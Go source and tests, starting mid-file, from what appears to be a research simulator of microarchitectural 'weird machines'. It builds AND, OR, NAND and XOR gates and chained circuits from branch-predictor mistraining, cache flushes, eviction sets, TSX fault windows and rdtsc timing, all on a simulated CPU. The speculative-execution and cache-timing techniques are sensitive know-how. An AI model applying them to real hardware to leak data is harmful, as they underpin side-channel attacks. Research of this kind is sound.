// Golden returns the gate's reference truth value for the inputs.
func (g *BPGate) Golden(in []int) int { return g.truth(in) }

// Run performs one full activation and returns the output bit.
func (g *BPGate) Run(in ...int) (int, error) {
	bit, _, err := g.RunTimed(in...)
	return bit, err
}

// RunTimed performs one activation and additionally returns the
// measured read latency in cycles (the raw data behind the KDE plots of
// Figures 7 and 8).
func (g *BPGate) RunTimed(in ...int) (int, int64, error) {
	if len(in) != g.arity {
		return 0, 0, fmt.Errorf("core: gate %s wants %d inputs, got %d", g.name, g.arity, len(in))
	}
	gsp := g.m.BeginSpan(g.span)
	train, ic := g.wire(in)

	// Write the BP-WRs: execute each block's branch with the desired
	// direction, TrainIterations times.
	sp := g.m.BeginSpan(SpanTrain)
	for blk, dir := range train {
		if g.m.ns.TrainFail() {
			continue // training destroyed by aliasing activity
		}
		entry := g.trainT[blk]
		if dir == trainNotTaken {
			entry = g.trainNT[blk]
		}
		for i := 0; i < g.m.TrainIterations(); i++ {
			if _, err := g.m.run(g.prog, entry); err != nil {
				g.m.EndSpan(gsp)
				return 0, 0, err
			}
		}
	}
	g.m.EndSpan(sp)

	// Write the IC-WRs: execute or flush each block's body.
	sp = g.m.BeginSpan(SpanICWrite)
	for blk, mode := range ic {
		entry := g.touch[blk]
		if mode == icFlushed {
			entry = g.flushB[blk]
		}
		if _, err := g.m.run(g.prog, entry); err != nil {
			g.m.EndSpan(gsp)
			return 0, 0, err
		}
	}
	g.m.EndSpan(sp)

	// Reset outputs and the branch-condition lines.
	sp = g.m.BeginSpan(SpanPrep)
	if _, err := g.m.run(g.prog, "prep"); err != nil {
		g.m.EndSpan(gsp)
		return 0, 0, err
	}
	g.m.EndSpan(sp)

	// Unrelated system activity may disturb the gate's lines here.
	sp = g.m.BeginSpan(SpanFire)
	for _, line := range g.bodyLines {
		g.m.perturbCode(line)
	}
	g.m.perturbData(g.out)

	if _, err := g.m.run(g.prog, "fire"); err != nil {
		g.m.EndSpan(gsp)
		return 0, 0, err
	}
	g.m.perturbData(g.out)
	g.m.EndSpan(sp)

	sp = g.m.BeginSpan(SpanRead)
	if _, err := g.m.run(g.prog, "read"); err != nil {
		g.m.EndSpan(gsp)
		return 0, 0, err
	}
	delta := g.m.readDelta()
	g.fires.Inc()
	g.readLat.Observe(float64(delta))
	bit := g.m.ToBit(delta)
	g.m.emitTimedRead(g.name, 0, bit, delta, g.out.Addr)
	g.m.EndSpan(sp)
	g.m.EndSpan(gsp)
	return bit, delta, nil
}

// condReg returns the fire-section condition register for block blk.
func condReg(blk int) isa.Reg { return isa.Reg(uint8(isa.R1) + uint8(blk)) }

// buildBPGate assembles the multi-entry program shared by the whole
// family. Each block contributes a train pair, a touch/flush pair and a
// speculative body; prep and read are common.
func buildBPGate(m *Machine, name string, blocks []bpBlockSpec, prepCache bool, arity int, wire bpWiring, truth func([]int) int) (*BPGate, error) {
	id := m.nextGateID()
	tag := fmt.Sprintf("g%d.%s", id, name)

	out := m.layout.AllocLine(tag + ".out")
	// one holds the constant 1: training "not taken" loads the branch
	// condition from it, training "taken" loads from the zero-valued
	// condition line itself — in both cases through a freshly flushed
	// line, so every training iteration exercises the same slow-
	// resolving branch the gate fires with. This is what makes the
	// paper's non-TSX gates ~25× slower than the TSX family (Table 2).
	one := m.layout.AllocLine(tag + ".one")
	m.mem.Write64(one.Addr, 1)
	brd := make([]mem.Symbol, len(blocks))
	for i := range blocks {
		brd[i] = m.layout.AllocLine(fmt.Sprintf("%s.brd%d", tag, i))
	}
	var ev []mem.Symbol
	for i, blk := range blocks {
		if blk.evict {
			ways := m.cpu.Hierarchy().L2().Config().Ways
			ev = m.evictBase(out, ways, fmt.Sprintf("%s.b%d", tag, i))
			break // one eviction set per gate is all current gates need
		}
	}

	b := isa.NewBuilder(m.codeRegion())

	// Per-block training and IC-write entries. Training loads the
	// desired condition value through a flushed line so the branch it
	// executes resolves from DRAM — the same shape as the fire path.
	for i := range blocks {
		b.Label(fmt.Sprintf("train%d_t", i)).
			Clflush(brd[i], 0).
			Fence().
			Load(condReg(i), brd[i], 0).
			Jmp(fmt.Sprintf("br%d", i))
		b.Label(fmt.Sprintf("train%d_nt", i)).
			Clflush(one, 0).
			Fence().
			Load(condReg(i), one, 0).
			Jmp(fmt.Sprintf("br%d", i))
		b.Label(fmt.Sprintf("touch%d", i)).
			Jmp(fmt.Sprintf("body%d", i))
		b.Label(fmt.Sprintf("flushb%d", i)).
			ClflushCode(fmt.Sprintf("body%d", i)).
			Fence().
			Halt()
	}

	// prep: reset output (flush, or pre-cache for eviction gates) and
	// flush the branch-condition lines so the fire branch resolves
	// from DRAM, opening a wide speculative window. Eviction gates
	// also flush their conflict lines: with the whole set cold, the
	// fire's eight fills deterministically wrap the set and push the
	// freshly touched output out — independent of whatever recency
	// state earlier activations left behind.
	b.Label("prep")
	if prepCache {
		b.Load(isa.R11, out, 0)
		for _, e := range ev {
			b.Clflush(e, 0)
		}
	} else {
		b.Clflush(out, 0)
	}
	for i := range blocks {
		b.Clflush(brd[i], 0)
	}
	b.Fence().Halt()

	// fire: the gate itself.
	b.Label("fire").MovI(isa.R9, 42)
	for i, blk := range blocks {
		next := fmt.Sprintf("next%d", i)
		b.Load(condReg(i), brd[i], 0)
		b.Label(fmt.Sprintf("br%d", i)).
			Brz(condReg(i), next)
		b.AlignLine()
		b.Label(fmt.Sprintf("body%d", i))
		if blk.evict {
			for _, e := range ev {
				b.Load(isa.R3, e, 0)
			}
		} else {
			b.Store(out, 0, isa.R9)
		}
		b.Halt()
		b.AlignLine()
		b.Label(next)
		if i == len(blocks)-1 {
			b.Halt()
		}
	}

	// read: timed load of the output line.
	b.Label("read").
		Rdtsc(isa.R10).
		Load(isa.R11, out, 0).
		Rdtsc(isa.R12).
		Halt()

	prog, err := b.Build()
	if err != nil {
		return nil, fmt.Errorf("core: building %s: %w", name, err)
	}
	if prog.End() > prog.Base+codeRegionSize {
		return nil, fmt.Errorf("core: gate %s overflows its code region", name)
	}

	bodyLines := make([]mem.Addr, len(blocks))
	for i := range blocks {
		addr, err := prog.LabelAddr(fmt.Sprintf("body%d", i))
		if err != nil {
			return nil, err
		}
		bodyLines[i] = addr.Line()
	}

	g := &BPGate{
		m:         m,
		name:      name,
		arity:     arity,
		prog:      prog,
		out:       out,
		brd:       brd,
		bodyLines: bodyLines,
		blocks:    blocks,
		prepCache: prepCache,
		wire:      wire,
		truth:     truth,
		span:      "gate:" + name,
	}
	for i := range blocks {
		g.trainT = append(g.trainT, fmt.Sprintf("train%d_t", i))
		g.trainNT = append(g.trainNT, fmt.Sprintf("train%d_nt", i))
		g.touch = append(g.touch, fmt.Sprintf("touch%d", i))
		g.flushB = append(g.flushB, fmt.Sprintf("flushb%d", i))
	}
	g.fires, g.readLat = m.gateInstruments(name, "bp")
	return g, nil
}

// NewBPAnd builds the weird AND gate of Figure 1: one speculative block
// whose BP-WR is input b and whose IC-WR is input a. The output line is
// filled only when the branch mispredicts into the body and the body is
// already in the instruction cache.
func NewBPAnd(m *Machine) (*BPGate, error) {
	return buildBPGate(m, "AND", []bpBlockSpec{{}}, false, 2,
		func(in []int) ([]trainDir, []icMode) {
			return []trainDir{dirOf(in[1])}, []icMode{icOf(in[0])}
		},
		func(in []int) int { return in[0] & in[1] },
	)
}

// NewBPOr builds the weird OR gate of Figure 2: two speculative blocks.
// The first branch is always mistrained and its body's IC state is input
// a; the second branch's BP-WR is input b and its body stays hot.
func NewBPOr(m *Machine) (*BPGate, error) {
	return buildBPGate(m, "OR", []bpBlockSpec{{}, {}}, false, 2,
		func(in []int) ([]trainDir, []icMode) {
			return []trainDir{trainNotTaken, dirOf(in[1])}, []icMode{icOf(in[0]), icAlways}
		},
		func(in []int) int { return in[0] | in[1] },
	)
}

// NewBPNand builds a weird NAND gate: the output line starts cached, and
// the speculative body is an eviction set that pushes it out of the
// hierarchy — so the output drops to 0 exactly when both inputs are 1.
// NAND gives the family functional completeness (§3.2).
func NewBPNand(m *Machine) (*BPGate, error) {
	return buildBPGate(m, "NAND", []bpBlockSpec{{evict: true}}, true, 2,
		func(in []int) ([]trainDir, []icMode) {
			return []trainDir{dirOf(in[1])}, []icMode{icOf(in[0])}
		},
		func(in []int) int { return 1 - in[0]&in[1] },
	)
}

// NewBPAndAndOr builds the composed (a AND b) OR (c AND d) gate the
// paper's full adder uses (§5.2): two speculative blocks, each an AND of
// its BP-WR and IC-WR, both storing to the same output line.
func NewBPAndAndOr(m *Machine) (*BPGate, error) {
	return buildBPGate(m, "AND_AND_OR", []bpBlockSpec{{}, {}}, false, 4,
		func(in []int) ([]trainDir, []icMode) {
			return []trainDir{dirOf(in[1]), dirOf(in[3])}, []icMode{icOf(in[0]), icOf(in[2])}
		},
		func(in []int) int { return in[0]&in[1] | in[2]&in[3] },
	)
}

func dirOf(bit int) trainDir {
	if bit != 0 {
		return trainNotTaken
	}
	return trainTaken
}

func icOf(bit int) icMode {
	if bit != 0 {
		return icCached
	}
	return icFlushed
}
