package core

import (
	"testing"

	"uwm/internal/trace"
)

func TestSpanNestingAndParents(t *testing.T) {
	rec := trace.NewRecorder(0)
	m := MustNewMachine(Options{Seed: 7, Trace: rec})

	outer := m.BeginSpan("circuit:test")
	inner := m.BeginSpan("gate:inner")
	if m.OpenSpans() != 2 {
		t.Fatalf("OpenSpans = %d, want 2", m.OpenSpans())
	}
	m.EndSpan(inner)
	m.EndSpan(outer)
	if m.OpenSpans() != 0 {
		t.Fatalf("OpenSpans = %d after closing, want 0", m.OpenSpans())
	}

	begins := rec.Filter(trace.KindSpanBegin)
	ends := rec.Filter(trace.KindSpanEnd)
	if len(begins) != 2 || len(ends) != 2 {
		t.Fatalf("begins=%d ends=%d, want 2/2", len(begins), len(ends))
	}
	if begins[0].Text != "circuit:test" || begins[0].Addr != 0 {
		t.Errorf("outer begin = %+v, want root parent", begins[0])
	}
	if begins[1].Text != "gate:inner" || begins[1].Addr != begins[0].Value {
		t.Errorf("inner begin = %+v, want parent %d", begins[1], begins[0].Value)
	}
	// LIFO close order: inner's end first.
	if ends[0].Value != begins[1].Value || ends[1].Value != begins[0].Value {
		t.Errorf("end order = %d,%d; want %d,%d",
			ends[0].Value, ends[1].Value, begins[1].Value, begins[0].Value)
	}
}

func TestEndSpanClosesAbandonedChildren(t *testing.T) {
	rec := trace.NewRecorder(0)
	m := MustNewMachine(Options{Seed: 7, Trace: rec})

	outer := m.BeginSpan("a")
	m.BeginSpan("b") // never closed explicitly (error-path shape)
	m.EndSpan(outer)
	if m.OpenSpans() != 0 {
		t.Fatalf("OpenSpans = %d, want 0", m.OpenSpans())
	}
	if n := len(rec.Filter(trace.KindSpanEnd)); n != 2 {
		t.Fatalf("span ends = %d, want 2 (child closed with parent)", n)
	}
	// A double close must not disturb later spans.
	m.EndSpan(outer)
	later := m.BeginSpan("c")
	if m.OpenSpans() != 1 {
		t.Fatalf("OpenSpans = %d, want 1", m.OpenSpans())
	}
	m.EndSpan(later)
}

func TestGateActivationEmitsBalancedSpans(t *testing.T) {
	rec := trace.NewRecorder(0)
	m := MustNewMachine(Options{Seed: 3, TrainIterations: 2, Trace: rec})

	bp, err := NewBPAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	tsx, err := NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	rec.Reset()
	if _, err := bp.Run(1, 1); err != nil {
		t.Fatal(err)
	}
	if _, err := tsx.Run(1, 1); err != nil {
		t.Fatal(err)
	}
	begins := rec.Filter(trace.KindSpanBegin)
	ends := rec.Filter(trace.KindSpanEnd)
	if len(begins) == 0 || len(begins) != len(ends) {
		t.Fatalf("unbalanced spans: %d begins, %d ends", len(begins), len(ends))
	}
	if m.OpenSpans() != 0 {
		t.Fatalf("OpenSpans = %d after activations, want 0", m.OpenSpans())
	}
	want := map[string]bool{
		"gate:AND": false, SpanTrain: false, SpanICWrite: false,
		"gate:TSX_AND": false, SpanWriteInput: false, SpanPrep: false,
		SpanFire: false, SpanRead: false,
	}
	for _, e := range begins {
		if _, ok := want[e.Text]; ok {
			want[e.Text] = true
		}
		if e.Kind.Architectural() {
			t.Fatalf("span event on architectural plane: %+v", e)
		}
	}
	for name, seen := range want {
		if !seen {
			t.Errorf("no span %q emitted", name)
		}
	}
}

// TestSpanDisabledZeroAlloc is the PR's zero-overhead guard: with no
// sink attached, opening and closing spans must allocate nothing.
func TestSpanDisabledZeroAlloc(t *testing.T) {
	m := MustNewMachine(Options{Seed: 7})
	if allocs := testing.AllocsPerRun(1000, func() {
		id := m.BeginSpan("gate:AND")
		m.EndSpan(id)
	}); allocs != 0 {
		t.Errorf("disabled span path allocated %v/op, want 0", allocs)
	}
}

// BenchmarkSpanDisabled measures the per-activation cost of the span
// calls when tracing is off — the "no measurable cost" guarantee. The
// full uninstrumented/instrumented gate comparison lives in
// BenchmarkBPGateActivation (bench_test.go at the repo root).
func BenchmarkSpanDisabled(b *testing.B) {
	m := MustNewMachine(Options{Seed: 7})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		id := m.BeginSpan("gate:AND")
		m.EndSpan(id)
	}
}

// BenchmarkSpanEnabled is the enabled-path counterpart, emitting into a
// disabled-at-the-bottom recorder toggled on (ring of 1k events).
func BenchmarkSpanEnabled(b *testing.B) {
	rec := trace.NewRecorder(1024)
	m := MustNewMachine(Options{Seed: 7, Trace: rec})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		id := m.BeginSpan("gate:AND")
		m.EndSpan(id)
	}
}
