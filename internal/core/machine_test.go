package core

import (
	"strings"
	"testing"

	"uwm/internal/cpu"
	"uwm/internal/noise"
)

func TestMachineAccessors(t *testing.T) {
	m := quiet(t)
	if m.CPU() == nil || m.Layout() == nil || m.Mem() == nil || m.Noise() == nil {
		t.Fatal("nil accessor")
	}
	if m.TrainIterations() != 4 {
		t.Errorf("train iterations = %d", m.TrainIterations())
	}
	if m.ToBit(m.Threshold()-1) != 1 || m.ToBit(m.Threshold()) != 0 {
		t.Error("ToBit boundary wrong")
	}
}

func TestMachineDeterminism(t *testing.T) {
	// Two machines with identical seeds/config must produce identical
	// timing behaviour.
	m1 := MustNewMachine(Options{Seed: 5, Noise: noise.Paper()})
	m2 := MustNewMachine(Options{Seed: 5, Noise: noise.Paper()})
	if m1.Threshold() != m2.Threshold() {
		t.Fatalf("thresholds differ: %d vs %d", m1.Threshold(), m2.Threshold())
	}
	g1, err := NewTSXXor(m1)
	if err != nil {
		t.Fatal(err)
	}
	g2, err := NewTSXXor(m2)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 200; i++ {
		a, b := i&1, i>>1&1
		o1, d1, err := g1.RunTimed(a, b)
		if err != nil {
			t.Fatal(err)
		}
		o2, d2, err := g2.RunTimed(a, b)
		if err != nil {
			t.Fatal(err)
		}
		if o1[0] != o2[0] || d1[0] != d2[0] {
			t.Fatalf("iteration %d diverged: %v/%v vs %v/%v", i, o1, d1, o2, d2)
		}
	}
}

func TestMachineSeedsDiffer(t *testing.T) {
	m1 := MustNewMachine(Options{Seed: 1, Noise: noise.Paper()})
	m2 := MustNewMachine(Options{Seed: 2, Noise: noise.Paper()})
	// Same structure, but the noise streams must differ: compare a few
	// timer jitter draws.
	same := true
	for i := 0; i < 8; i++ {
		if m1.Noise().TimerJitter() != m2.Noise().TimerJitter() {
			same = false
		}
	}
	if same {
		t.Error("different seeds produced identical noise")
	}
}

func TestCalibrationFailsWithoutTimingGap(t *testing.T) {
	// A hierarchy where DRAM is as fast as L1 has no hit/miss gap; the
	// machine must refuse to calibrate rather than mislabel bits.
	cfg := cpu.DefaultConfig()
	cfg.Hierarchy.MemLatency = -17 // cancels the L2+mem latency gap
	cfg.Hierarchy.L2.Latency = 2
	cfg.Hierarchy.L1D.Latency = 4
	_, err := NewMachine(Options{Seed: 3, CPU: &cfg})
	if err == nil {
		t.Skip("contrived config still had a gap; acceptable")
	}
	if !strings.Contains(err.Error(), "calibration") {
		t.Errorf("unexpected error: %v", err)
	}
}

func TestGateArityErrors(t *testing.T) {
	m := quiet(t)
	bp, err := NewBPAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := bp.Run(1); err == nil {
		t.Error("BP gate accepted wrong arity")
	}
	tsx, err := NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tsx.Run(1, 0, 1); err == nil {
		t.Error("TSX gate accepted wrong arity")
	}
}

func TestGateMetadata(t *testing.T) {
	m := quiet(t)
	bp, _ := NewBPAnd(m)
	if bp.Name() != "AND" || bp.Arity() != 2 {
		t.Errorf("bp metadata: %s/%d", bp.Name(), bp.Arity())
	}
	if bp.Program() == nil {
		t.Error("nil program")
	}
	tsx, _ := NewTSXAndOr(m)
	if tsx.Name() != "TSX_AND_OR" || tsx.Arity() != 2 || tsx.Outputs() != 2 {
		t.Errorf("tsx metadata: %s/%d/%d", tsx.Name(), tsx.Arity(), tsx.Outputs())
	}
	if tsx.InputSymbol(0).Addr == tsx.InputSymbol(1).Addr {
		t.Error("input symbols collide")
	}
	if tsx.OutputSymbol(0).Addr == tsx.OutputSymbol(1).Addr {
		t.Error("output symbols collide")
	}
}

func TestManyGatesOneMachine(t *testing.T) {
	// Allocating a realistic gate population must not collide symbols,
	// code regions or eviction sets.
	m := quiet(t)
	for i := 0; i < 12; i++ {
		if _, err := NewTSXXor(m); err != nil {
			t.Fatalf("gate %d: %v", i, err)
		}
		if _, err := NewBPNand(m); err != nil {
			t.Fatalf("gate %d: %v", i, err)
		}
	}
	// The last-built gates must still work.
	x, err := NewTSXXor(m)
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range combos(2) {
		got, err := x.Run(in...)
		if err != nil {
			t.Fatal(err)
		}
		if got[0] != in[0]^in[1] {
			t.Errorf("late-built xor%v = %d", in, got[0])
		}
	}
}

// TestGateEntanglement exercises §3.1 property 3: gates on one machine
// share microarchitectural structures, yet well-formed gates isolate
// their lines so results stay independent.
func TestGateEntanglement(t *testing.T) {
	m := quiet(t)
	a, _ := NewTSXAnd(m)
	o, _ := NewTSXOr(m)
	// Interleave activations with opposing values.
	for i := 0; i < 8; i++ {
		ra, err := a.Run(1, 1)
		if err != nil {
			t.Fatal(err)
		}
		ro, err := o.Run(0, 0)
		if err != nil {
			t.Fatal(err)
		}
		if ra[0] != 1 || ro[0] != 0 {
			t.Fatalf("interleaved gates interfered: and=%d or=%d", ra[0], ro[0])
		}
	}
}

// TestGShareMachineStillComputes runs a BP gate under the gshare
// predictor — harder to mistrain (a §4 concern) but still trainable
// with a stable history pattern in this model.
func TestGShareMachineStillComputes(t *testing.T) {
	cfg := cpu.DefaultConfig()
	cfg.UseGShare = true
	m := MustNewMachine(Options{Seed: 9, CPU: &cfg, TrainIterations: 12})
	g, err := NewBPAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	correct := 0
	total := 0
	for _, in := range combos(2) {
		for rep := 0; rep < 8; rep++ {
			got, err := g.Run(in...)
			if err != nil {
				t.Fatal(err)
			}
			total++
			if got == g.Golden(in) {
				correct++
			}
		}
	}
	// gshare degrades training effectiveness; expect worse than the
	// bimodal predictor's ~100% but far better than chance.
	if float64(correct)/float64(total) < 0.7 {
		t.Errorf("gshare accuracy %d/%d collapsed", correct, total)
	}
}
