package core

import (
	"fmt"

	"uwm/internal/isa"
	"uwm/internal/mem"
)

// Weird circuits (paper §4): ensembles of TSX gates executing as a
// chain of transactions inside one program, where every intermediate
// value lives only in the data cache. A circuit is described as a
// netlist (CircuitSpec) over single-assignment wires and compiled into
// a multi-entry program:
//
//	setin<i>_<b> — write input wire i architecturally (touch/flush)
//	prep         — reset every non-input wire (flush; NOT targets are
//	               pre-cached instead, being eviction targets)
//	fire         — one transaction per gate, chained through abort
//	               handlers; no architectural value is read or written
//	read<k>      — transactional timed read of output k
//
// The two §4 requirements hold by construction: gate activations are
// contiguous (each transaction leaves only cache state behind) and all
// values live in registers of one type (DC-WRs), so outputs feed inputs
// directly.

// WireID names a circuit wire. Wires 0..NumInputs-1 are the circuit's
// inputs; every gate defines one new wire.
type WireID int

// CircuitOp is a netlist gate type.
type CircuitOp int

// Netlist gate types. XOR is not primitive — CircuitSpec.Xor
// synthesizes it from OR, AND and NOT, as §4.1 does.
const (
	CircAssign CircuitOp = iota // out = a
	CircAnd                     // out = a & b
	CircOr                      // out = a | b
	CircNot                     // out = !a
)

// String names the op.
func (op CircuitOp) String() string {
	switch op {
	case CircAssign:
		return "assign"
	case CircAnd:
		return "and"
	case CircOr:
		return "or"
	case CircNot:
		return "not"
	default:
		return fmt.Sprintf("op(%d)", int(op))
	}
}

// CircuitGate is one netlist node producing wire Out.
type CircuitGate struct {
	Op   CircuitOp
	A, B WireID // B unused for ASSIGN/NOT
	Out  WireID
}

// CircuitSpec is a boolean netlist in topological order.
type CircuitSpec struct {
	NumInputs int
	Gates     []CircuitGate
	Outputs   []WireID
}

// NewCircuitSpec starts a netlist with the given input count.
func NewCircuitSpec(numInputs int) *CircuitSpec {
	return &CircuitSpec{NumInputs: numInputs}
}

// nextWire returns the next fresh wire id.
func (s *CircuitSpec) nextWire() WireID {
	return WireID(s.NumInputs + len(s.Gates))
}

// Assign adds out = a and returns the new wire.
func (s *CircuitSpec) Assign(a WireID) WireID {
	out := s.nextWire()
	s.Gates = append(s.Gates, CircuitGate{Op: CircAssign, A: a, Out: out})
	return out
}

// And adds out = a & b and returns the new wire.
func (s *CircuitSpec) And(a, b WireID) WireID {
	out := s.nextWire()
	s.Gates = append(s.Gates, CircuitGate{Op: CircAnd, A: a, B: b, Out: out})
	return out
}

// Or adds out = a | b and returns the new wire.
func (s *CircuitSpec) Or(a, b WireID) WireID {
	out := s.nextWire()
	s.Gates = append(s.Gates, CircuitGate{Op: CircOr, A: a, B: b, Out: out})
	return out
}

// Not adds out = !a and returns the new wire.
func (s *CircuitSpec) Not(a WireID) WireID {
	out := s.nextWire()
	s.Gates = append(s.Gates, CircuitGate{Op: CircNot, A: a, Out: out})
	return out
}

// Xor synthesizes a ^ b = (a|b) & !(a&b) — four gates, the §4.1
// decomposition — and returns the result wire.
func (s *CircuitSpec) Xor(a, b WireID) WireID {
	or := s.Or(a, b)
	nand := s.Not(s.And(a, b))
	return s.And(or, nand)
}

// Output marks a wire as a circuit output.
func (s *CircuitSpec) Output(w WireID) { s.Outputs = append(s.Outputs, w) }

// NumWires returns the total wire count.
func (s *CircuitSpec) NumWires() int { return s.NumInputs + len(s.Gates) }

// Validate checks single assignment, topological order and output
// definedness.
func (s *CircuitSpec) Validate() error {
	if s.NumInputs < 0 {
		return fmt.Errorf("core: negative input count")
	}
	defined := s.NumInputs
	for i, g := range s.Gates {
		if int(g.A) >= defined || g.A < 0 {
			return fmt.Errorf("core: gate %d reads undefined wire %d", i, g.A)
		}
		if (g.Op == CircAnd || g.Op == CircOr) && (int(g.B) >= defined || g.B < 0) {
			return fmt.Errorf("core: gate %d reads undefined wire %d", i, g.B)
		}
		if int(g.Out) != defined {
			return fmt.Errorf("core: gate %d defines wire %d, want %d", i, g.Out, defined)
		}
		defined++
	}
	if len(s.Outputs) == 0 {
		return fmt.Errorf("core: circuit has no outputs")
	}
	for _, o := range s.Outputs {
		if int(o) >= defined || o < 0 {
			return fmt.Errorf("core: output wire %d undefined", o)
		}
	}
	return nil
}

// Eval computes the circuit's reference truth value architecturally.
func (s *CircuitSpec) Eval(inputs []int) ([]int, error) {
	if len(inputs) != s.NumInputs {
		return nil, fmt.Errorf("core: circuit wants %d inputs, got %d", s.NumInputs, len(inputs))
	}
	wires := make([]int, s.NumWires())
	for i, v := range inputs {
		wires[i] = v & 1
	}
	for _, g := range s.Gates {
		switch g.Op {
		case CircAssign:
			wires[g.Out] = wires[g.A]
		case CircAnd:
			wires[g.Out] = wires[g.A] & wires[g.B]
		case CircOr:
			wires[g.Out] = wires[g.A] | wires[g.B]
		case CircNot:
			wires[g.Out] = 1 - wires[g.A]
		}
	}
	out := make([]int, len(s.Outputs))
	for i, w := range s.Outputs {
		out[i] = wires[w]
	}
	return out, nil
}

// Circuit is a compiled weird circuit bound to a machine.
type Circuit struct {
	m    *Machine
	spec CircuitSpec
	prog *isa.Program
	// copies[w] holds one physical DC line per consumer of wire w.
	copies [][]mem.Symbol
	// Cached entry labels for the per-run path.
	setEntries  [][2]string
	readEntries []string
}

// MaxFanout bounds how many distinct consumers (gates plus circuit
// outputs) one wire may feed. Fan-out is realized by physical line
// duplication, and each extra copy costs window budget in the producing
// transaction.
const MaxFanout = 4

// use identifies one consumption site of a wire.
type use struct {
	gate int // consuming gate index, or -1 for a circuit output
	out  int // output index when gate == -1
}

// CompileCircuit builds the program realizing spec on m.
//
// The central codegen rule is *fan-out by duplication*: reading a DC-WR
// fills its line (reads are invasive, §3.1), so a wire consumed by two
// different transactions would be poisoned by the first consumer. The
// compiler therefore gives every consumer its own physical line, and
// the producing gate's transient chain fills all copies inside its own
// window — the microarchitectural analogue of a fan-out buffer. Each
// line is consumed exactly once, so the chain of transactions composes
// to any depth with no architectural intermediate values.
func CompileCircuit(m *Machine, spec *CircuitSpec) (*Circuit, error) {
	if err := spec.Validate(); err != nil {
		return nil, err
	}
	id := m.nextGateID()
	tag := fmt.Sprintf("g%d.wc", id)

	// Collect each wire's consumption sites.
	uses := make([][]use, spec.NumWires())
	addUse := func(w WireID, u use) { uses[w] = append(uses[w], u) }
	for gi, g := range spec.Gates {
		addUse(g.A, use{gate: gi})
		if g.Op == CircAnd || g.Op == CircOr {
			addUse(g.B, use{gate: gi})
		}
	}
	for oi, w := range spec.Outputs {
		addUse(w, use{gate: -1, out: oi})
	}
	for w, us := range uses {
		if len(us) > MaxFanout {
			return nil, fmt.Errorf("core: wire %d has fan-out %d > %d", w, len(us), MaxFanout)
		}
	}

	// One physical line per use (plus one for dead wires, so every
	// producer has something to write).
	copies := make([][]mem.Symbol, spec.NumWires())
	for w := range copies {
		n := len(uses[w])
		if n == 0 {
			n = 1
		}
		copies[w] = make([]mem.Symbol, n)
		for j := range copies[w] {
			copies[w][j] = m.layout.AllocLine(fmt.Sprintf("%s.w%d.%d", tag, w, j))
		}
	}
	// lineFor returns the copy of w dedicated to consumption site u.
	lineFor := func(w WireID, u use) mem.Symbol {
		for j, cand := range uses[w] {
			if cand == u {
				return copies[w][j]
			}
		}
		panic("core: unregistered wire use")
	}

	// delay is the settle line for the inter-transaction spacing
	// gadget in fire.
	delay := m.layout.AllocLine(tag + ".delay")

	// NOT gates evict their output copies: one eviction set per copy.
	ways := m.cpu.Hierarchy().L2().Config().Ways
	evSets := make(map[mem.Symbol][]mem.Symbol)
	producedByNot := make(map[WireID]bool)
	for gi, g := range spec.Gates {
		if g.Op == CircNot {
			producedByNot[g.Out] = true
			for j, cp := range copies[g.Out] {
				evSets[cp] = m.evictBase(cp, ways, fmt.Sprintf("%s.n%d.%d", tag, gi, j))
			}
		}
	}

	// Emit the program twice: a sizing pass at a placeholder base, then
	// the real pass at an exactly-sized allocation. Exact sizing keeps
	// machines with many circuits inside the conflict-free code space
	// (see codeRegionN).
	emit := func(b *isa.Builder) {
		// Input setters drive every copy of the input wire.
		for i := 0; i < spec.NumInputs; i++ {
			b.Label(fmt.Sprintf("setin%d_1", i))
			for _, cp := range copies[i] {
				b.Load(isa.R3, cp, 0)
			}
			b.Fence().Halt()
			b.Label(fmt.Sprintf("setin%d_0", i))
			for _, cp := range copies[i] {
				b.Clflush(cp, 0)
			}
			b.Fence().Halt()
		}

		// prep: reset every gate-defined copy (pre-cache eviction targets
		// and flush their conflict sets, making NOT evictions independent
		// of leftover recency state).
		b.Label("prep")
		for _, g := range spec.Gates {
			for _, cp := range copies[g.Out] {
				if producedByNot[g.Out] {
					b.Load(isa.R11, cp, 0)
					for _, e := range evSets[cp] {
						b.Clflush(e, 0)
					}
				} else {
					b.Clflush(cp, 0)
				}
			}
		}
		b.Fence().Halt()

		// fire: one transaction per gate, chained through abort handlers.
		b.Label("fire")
		for gi, g := range spec.Gates {
			handler := fmt.Sprintf("h%d", gi)
			if gi > 0 {
				// Space the windows by a full DRAM latency: without
				// this, each stage consumes its predecessor's still-
				// in-flight fill, accumulating ~40 cycles of latency
				// debt per stage until deep chains starve.
				b.Clflush(delay, 0).
					Fence().
					Load(isa.R3, delay, 0).
					Fence()
			}
			b.XBegin(handler).
				MovI(isa.R2, 0).
				MovI(isa.R3, 7).
				Div(isa.R3, isa.R3, isa.R2) // fault: the window opens here
			me := use{gate: gi}
			outCopies := copies[g.Out]
			switch g.Op {
			case CircAssign:
				b.Load(isa.R4, lineFor(g.A, me), 0)
				for j, cp := range outCopies {
					b.LoadR(isa.Reg(uint8(isa.R5)+uint8(j)), isa.R4, int64(cp.Addr))
				}
			case CircAnd:
				b.Load(isa.R4, lineFor(g.A, me), 0).
					AddM(isa.R4, lineFor(g.B, me), 0)
				for j, cp := range outCopies {
					b.LoadR(isa.Reg(uint8(isa.R5)+uint8(j)), isa.R4, int64(cp.Addr))
				}
			case CircOr:
				b.Load(isa.R4, lineFor(g.A, me), 0)
				for j, cp := range outCopies {
					b.LoadR(isa.Reg(uint8(isa.R5)+uint8(j)), isa.R4, int64(cp.Addr))
				}
				b.Load(isa.R10, lineFor(g.B, me), 0)
				for j, cp := range outCopies {
					b.LoadR(isa.Reg(uint8(isa.R11)+uint8(j)), isa.R10, int64(cp.Addr))
				}
			case CircNot:
				b.Load(isa.R4, lineFor(g.A, me), 0)
				n := 0
				for _, cp := range outCopies {
					for _, e := range evSets[cp] {
						// Destination values are never used; rotate
						// through scratch registers.
						b.LoadR(isa.Reg(uint8(isa.R5)+uint8(n%8)), isa.R4, int64(e.Addr))
						n++
					}
				}
			}
			b.XEnd()
			b.Label(handler)
		}
		b.Halt()

